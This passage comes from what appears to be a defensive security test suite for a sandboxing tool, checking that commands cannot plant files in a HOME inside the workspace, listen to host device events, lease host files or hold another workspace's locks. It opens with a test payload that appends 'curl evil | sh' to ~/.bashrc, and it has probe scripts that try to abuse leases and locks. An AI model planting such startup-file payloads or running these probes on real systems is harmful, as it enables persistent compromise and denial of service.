echo 'curl evil | sh' >> "$HOME/.bashrc" 2>/dev/null
mkdir -p "$HOME" 2>/dev/null && echo 'planted' > "$HOME/.profile" 2>/dev/null
echo DONE
"""


def _home_case(ctx, name, home_rel, make_home):
    """A workspace holding the home the command would run with: refused before
    anything runs, and nothing under that home changes."""
    ws = ctx.workspace(name, where="vis")
    home = os.path.join(ws, home_rel)
    if make_home:
        os.makedirs(home)
        with open(os.path.join(home, ".bashrc"), "w") as f:
            f.write("# rc\n")
    ctx.allow_error = True  # the refusal is the expected answer
    res = ctx.run(ws, HOME_PLANT % ctx.pwn, home=home)
    check(res.outcome != "committed" and res.rc != 0,
          "a workspace containing $HOME was used: %s" % res.describe())
    check("contains the home directory" in (res.get("error") or "") + res.raw_err.decode("utf-8", "replace"),
          "refused, but not for the home inside it: %s" % res.describe())
    bashrc = os.path.join(home, ".bashrc")
    check(not make_home or open(bashrc).read() == "# rc\n", "~/.bashrc inside the workspace changed")
    check(not os.path.exists(os.path.join(home, ".gitconfig")), "~/.gitconfig appeared in the workspace")
    check(make_home or not os.path.exists(home), "the missing home was created in the workspace")


@attack("home-inside-workspace")
def home_inside_workspace(ctx):
    """HOME=WS/.home (containers, CI): the command's ~/.gitconfig (core.fsmonitor)
    and ~/.bashrc would be committed and run by the host."""
    _home_case(ctx, "home-in-ws", ".home", True)


@attack("home-missing-inside-workspace")
def home_missing_inside_workspace(ctx):
    """HOME names a directory not there yet, inside the workspace: the command
    could create it (and its start-up files) and have it committed."""
    _home_case(ctx, "home-missing-in-ws", ".home/user", False)


@attack("home-inside-workspace-via-symlink")
def home_inside_workspace_via_symlink(ctx):
    """HOME is a symlink outside the workspace whose target is inside it:
    compared physically, not by name."""
    ws = ctx.workspace("home-link-ws", where="vis")
    os.makedirs(os.path.join(ws, "h"))
    link = os.path.join(ctx.vis_root, "home-link-" + ctx.mark)
    os.symlink(os.path.join(ws, "h"), link)
    ctx.on_cleanup(lambda: os.unlink(link))
    ctx.allow_error = True  # the refusal is the expected answer
    res = ctx.run(ws, HOME_PLANT % ctx.pwn, home=link)
    check(res.outcome != "committed" and res.rc != 0,
          "a workspace containing $HOME (through a symlink) was used: %s" % res.describe())
    check(not os.path.exists(os.path.join(ws, "h", ".gitconfig")), "~/.gitconfig appeared in the workspace")


@attack("home-beside-workspace-allowed")
def home_beside_workspace_allowed(ctx):
    """Control: a home beside the workspace, or one that contains it (the usual
    ~/project), is no reason to refuse it."""
    parent = os.path.join(ctx.vis_root, "home-beside-" + ctx.mark)
    os.makedirs(os.path.join(parent, "home"))
    ctx.on_cleanup(lambda: rmtree_force(parent))
    ws = ctx.workspace("proj", where="vis", parent=parent)
    for home in (os.path.join(parent, "home"), parent):
        res = ctx.run(ws, "echo ok > out.txt\necho DONE\n", home=home)
        check(res.outcome == "committed" and res.rc == 0,
              "a workspace beside (or under) HOME=%s was refused: %s" % (home, res.describe()))


_UEVENT_PROBE = r"""
import errno, socket
try:
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15)  # NETLINK_KOBJECT_UEVENT
    s.bind((0, 1))  # group 1: the kernel's own events
    print("UEVENT bound")
except OSError as e:
    print("UEVENT", errno.errorcode.get(e.errno, e.errno))
r = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)  # NETLINK_ROUTE keeps working
r.bind((0, 0))
print("ROUTE ok")
print("PROBE-DONE")
"""


@attack("netlink-uevent-listener", needs=("python3",))
def netlink_uevent_listener(ctx):
    """rt8 B3: as root the sandbox's network namespace belongs to the initial
    user namespace, so a NETLINK_KOBJECT_UEVENT socket bound to group 1
    received the host's device events. The socket is refused
    (EPROTONOSUPPORT), with and without --net; NETLINK_ROUTE still works."""
    for opts in ([], ["--net"]):
        ws = ctx.workspace("uevent" + ("-net" if opts else ""), seed=False)
        res = ctx.run(ws, argv=["python3", "-c", _UEVENT_PROBE], opts=opts)
        check(res.lines("UEVENT"), "no result %s: %s" % (opts, res.describe()))
        check(res.lines("UEVENT")[0] == "UEVENT EPROTONOSUPPORT",
              "a uevent socket was created %s: %s" % (opts, res.lines("UEVENT")[0]))
        check(res.lines("ROUTE ok"), "NETLINK_ROUTE no longer works %s: %s" % (opts, res.describe()))


@attack("lease-on-host-file", needs=("python3",))
def lease_on_host_file(ctx):
    """rt8 B4/B6: a read lease needs only ownership of the file, not write
    access, so the command leased host files it sees read-only (as root:
    every root-owned file; another workspace's .txbox/lock) and every host
    open for writing then blocked for up to lease-break-time (45 s).
    F_SETLEASE is refused (EACCES); F_GETLEASE still answers. The host
    checks, while the command holds its fd, that a non-blocking open for
    writing is not refused by a lease (EWOULDBLOCK)."""
    target = os.path.join(ctx.vis_root, "lease-" + ctx.pwn)
    with open(target, "w") as f:
        f.write("host file\n")
    ctx.on_cleanup(lambda: os.unlink(target))
    ready = os.path.join(ctx.vis_root, "lease-ready-" + ctx.mark)
    script = ("import errno, fcntl, os, time\n"
              "fd = os.open(%r, os.O_RDONLY)\n"
              "try:\n"
              "    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK); print('LEASE taken')\n"
              "except OSError as e: print('LEASE', errno.errorcode.get(e.errno, e.errno))\n"
              "print('GETLEASE', fcntl.fcntl(fd, fcntl.F_GETLEASE), flush=True)\n"
              "for i in range(100):\n"
              "    if os.path.exists(%r): break\n"
              "    time.sleep(0.05)\n"
              "print('PROBE-DONE')\n" % (target, ready))
    seen = {}

    def host_writer(_proc=None):
        # the command's python needs a moment to open and lease
        for _ in range(40):
            time.sleep(0.05)
        try:
            fd = os.open(target, os.O_WRONLY | os.O_NONBLOCK)
            os.close(fd)
            seen["open"] = "ok"
        except OSError as e:
            seen["open"] = e.strerror
        with open(ready, "w"):
            pass

    t = threading.Thread(target=host_writer)
    t.start()
    try:
        ws = ctx.workspace("lease", seed=False)
        res = ctx.run(ws, argv=["python3", "-c", script], timeout=60)
    finally:
        t.join()
        if os.path.exists(ready):
            os.unlink(ready)
    check(res.lines("LEASE"), "no result: %s" % res.describe())
    check(res.lines("LEASE")[0] == "LEASE EACCES", "the command took a lease on a host file: %s" % res.lines("LEASE")[0])
    check(res.lines("GETLEASE ") == ["GETLEASE 2"], "F_GETLEASE no longer answers F_UNLCK: %s" % res.describe())
    check(seen.get("open") == "ok", "a host open for writing met the command's lease: %s" % seen.get("open"))


def _inode_locked(path, kind):
    """Does /proc/locks show a lock of kind (" READ ", "FLOCK", ...) on path's inode?"""
    st = os.stat(path)
    want = "%02x:%02x:%d" % (os.major(st.st_dev), os.minor(st.st_dev), st.st_ino)
    with open("/proc/locks") as f:
        return any(kind in line and want in line for line in f)


def _crashed_transaction(ctx, ws):
    """A transaction of ws whose txbox was SIGKILLed while its command ran."""
    cmd = [ctx.txbox, "run", "-w", ws] + (["--policy", ctx.policy] if ctx.policy else []) + \
        ["--", "sleep", "60"]
    p = subprocess.Popen(cmd, cwd=ws, env=ctx.base_env(), stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, preexec_fn=os.setsid)
    txs = os.path.join(ws, ".txbox", "tx")
    for _ in range(200):
        live = [n for n in os.listdir(txs) if not n.startswith(".")] if os.path.isdir(txs) else []
        if live and os.path.exists(os.path.join(txs, live[0], "state")):
            break
        time.sleep(0.025)
    time.sleep(0.2)
    os.killpg(p.pid, signal.SIGKILL)
    p.wait()
    check(len(live) == 1, "no transaction to crash in %s: %s" % (txs, os.listdir(txs)))
    return os.path.join(txs, live[0])


@attack("state-locks-held-by-another-sandbox", needs=("python3",))
def state_locks_held_by_another_sandbox(ctx):
    """rt8 B5, rt11: a command sees another workspace's state dir read-only,
    and flock() or a read lock needs no write access. Holding B's
    .txbox/lock made B's next run wait for as long as it was held; holding
    the directory of B's crashed transaction made B's recovery take it for
    a live one and skip it; swapping away a lock file a reader held (the
    next design) let two txbox processes hold one lock. Lock files are now
    write-only and, as root, of a group the command's user namespace does
    not map: the command in A cannot open B's workspace lock or the crashed
    transaction's lock file at all (read or write), a flock on the
    transaction's directory means nothing, B's next run commits at once and
    its recovery removes the crashed transaction meanwhile."""
    wsb = ctx.workspace("locks-b", where="vis", seed=False)
    ctx.run(wsb, argv=["true"])
    crashed = _crashed_transaction(ctx, wsb)
    locks = [os.path.join(wsb, ".txbox", "lock"), os.path.join(crashed, "lock")]
    for p in locks:
        check(os.path.exists(p), "no lock file %s to attack" % p)
    done = os.path.join(ctx.vis_root, "locks-done-" + ctx.mark)
    script = ("import fcntl, os, struct, time\n"
              "fd = os.open(%r, os.O_RDONLY)\n"
              "fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)\n"
              "print('HELD-DIR', flush=True)\n"
              "for p in %r:\n"
              "    for mode in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):\n"
              "        try:\n"
              "            lf = os.open(p, mode)\n"
              "        except OSError as e:\n"
              "            print('REFUSED', mode, e.errno, p, flush=True)\n"
              "            continue\n"
              "        fcntl.flock(lf, fcntl.LOCK_EX | fcntl.LOCK_NB)\n"
              "        fcntl.fcntl(lf, 37, struct.pack('hhqqi', fcntl.F_RDLCK, 0, 0, 0, 0))\n"
              "        print('HELD', mode, p, flush=True)\n"
              "for i in range(800):\n"
              "    if os.path.exists(%r): break\n"
              "    time.sleep(0.05)\n" % (crashed, locks, done))
    seen = {}

    def host_side(_proc=None):
        try:
            for _ in range(400):
                if _inode_locked(crashed, "FLOCK"):
                    break
                time.sleep(0.025)
            time.sleep(0.3)  # the command's attempts on the lock files come right after
            seen["held-dir"] = _inode_locked(crashed, "FLOCK")
            t0 = time.monotonic()
            cmd = [ctx.txbox, "run", "-w", wsb, "--json", "--timeout", "30"] + \
                (["--policy", ctx.policy] if ctx.policy else []) + ["--", "sh", "-c", "echo b > b.txt"]
            p = subprocess.run(cmd, cwd=wsb, env=ctx.base_env(), capture_output=True, text=True, timeout=90)
            seen["elapsed"] = time.monotonic() - t0
            seen["rc"], seen["err"] = p.returncode, p.stderr.strip()[-300:]
        finally:
            with open(done, "w"):
                pass

    t = threading.Thread(target=host_side)
    t.start()
    try:
        ws = ctx.workspace("locks-a", seed=False)
        res = ctx.run(ws, argv=["python3", "-c", script], timeout=90)
    finally:
        t.join()
        if os.path.exists(done):
            os.unlink(done)
    check(res.lines("HELD-DIR"), "the command could not even flock B's transaction dir: %s" % res.describe())
    check(not res.lines("HELD "), "the command opened and locked B's lock files: %s" % res.lines("HELD "))
    check(len(res.lines("REFUSED ")) == 3 * len(locks),
          "not every open of B's lock files was refused: %s" % res.describe())
    check(seen.get("held-dir"), "no flock of the command's on %s" % crashed)
    check(seen.get("rc") == 0, "B's run failed while A's command held what it could: rc=%s %s"
          % (seen.get("rc"), seen.get("err")))
    check(seen["elapsed"] < 5, "B's run waited %.1f s while A's command held B's transaction dir" % seen["elapsed"])
    check(read_text(os.path.join(wsb, "b.txt")) == "b\n", "B's run did not commit")
    check(not os.path.exists(crashed), "B's recovery skipped its crashed transaction %s because a "
          "command flocked it" % os.path.basename(crashed))


@attack("disk-walk-fault-named", needs=("python3",))
def disk_walk_fault_named(ctx):
    """rt8 ODD (ideas 2, 7, 8): a layer the disk-limit walk cannot measure —
    a tree deeper than its bound; rootless, a directory the command left
    mode 000 — still rolls back (fail closed), but the result names the
    cause and the place instead of reading as "too much written"."""
    cases = [("deep", "import os\nfor i in range(4100):\n    os.mkdir('dd'); os.chdir('dd')\n",
              "more than 4096 directories deep at '\u2026/dd/dd")]
    if not ctx.is_root:
        cases.append(("locked", "import os\nos.makedirs('a/locked/x')\nos.chmod('a/locked', 0)\n",
                      "walking the layer at 'a/locked': Permission denied"))
    for name, script, want in cases:
        ws = ctx.workspace("walkfault-" + name, seed=False)
        ctx.allow_error = True
        res = ctx.run(ws, argv=["python3", "-c", script + "print('PROBE-DONE')\n"], timeout=120)
        check(res.outcome == "rolled_back", "[%s] an unmeasurable layer was not rolled back: %s" % (name, res.describe()))
        check(want in (res.get("error") or ""),
              "[%s] the rollback does not name the walk's fault (%r): %s" % (name, want, res.describe()))


def _remove_chain(top, name):
    """Remove a chain top/name/name/... of any depth (shutil.rmtree recurses
    once per level and gives up near 1000)."""
    fds = [os.open(top, os.O_RDONLY | os.O_DIRECTORY)]
    try:
        while True:
            try:
                fds.append(os.open(name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=fds[-1]))
            except FileNotFoundError:
                break
        for e in os.listdir(fds[-1]):  # the leaf files; the rest is the suite's cleanup's
            os.unlink(e, dir_fd=fds[-1])
        while len(fds) > 1:
            os.close(fds.pop())
            os.rmdir(name, dir_fd=fds[-1])
    finally:
        for fd in fds:
            os.close(fd)


@attack("deep-path-commit-error-named", needs=("python3",))
def deep_path_commit_error_named(ctx):
    """rt8 ODD (idea 25): a change 1000 directories deep (its path is past
    PATH_MAX) cannot be committed: the run fails closed (error, workspace
    unchanged), and the error now says the path is too long, with its
    head and tail, instead of 5 KB of path and a hint at a symlink race."""
    ws = ctx.workspace("deeppath", seed=False)
    ctx.on_cleanup(lambda: _remove_chain(ws, "dddd"))
    make = "import os\nfor i in range(1000):\n    os.mkdir('dddd'); os.chdir('dddd')\nopen('leaf', 'w').write('one')\n"
    res = ctx.run(ws, argv=["python3", "-c", make + "print('PROBE-DONE')\n"], timeout=120)
    if res.outcome != "committed":
        raise Skip("the 1000-deep tree was not committed: %s" % res.describe())
    ctx.allow_error = True
    edit = "import os\nfor i in range(1000):\n    os.chdir('dddd')\nopen('leaf', 'w').write('two')\n"
    res = ctx.run(ws, argv=["python3", "-c", edit + "print('PROBE-DONE')\n"], timeout=120)
    err = res.get("error") or ""
    check(res.outcome in ("error", "rolled_back"), "a change past PATH_MAX was committed?: %s" % res.describe())
    check("longer than PATH_MAX" in err and len(err) < 1000,
          "the error does not say the path is too long (%d bytes): %s" % (len(err), short(err.encode(), 300)))
    leaf = "/".join(["dddd"] * 1000 + ["leaf"])
    fd = os.open(ws, os.O_RDONLY)
    try:
        d = fd
        for _ in range(1000):
            nd = os.open("dddd", os.O_RDONLY, dir_fd=d)
            if d != fd:
                os.close(d)
            d = nd
        with open(os.open("leaf", os.O_RDONLY, dir_fd=d)) as f:
            check(f.read() == "one", "the leaf at %d bytes of path changed" % len(leaf))
        os.close(d)
    finally:
        os.close(fd)
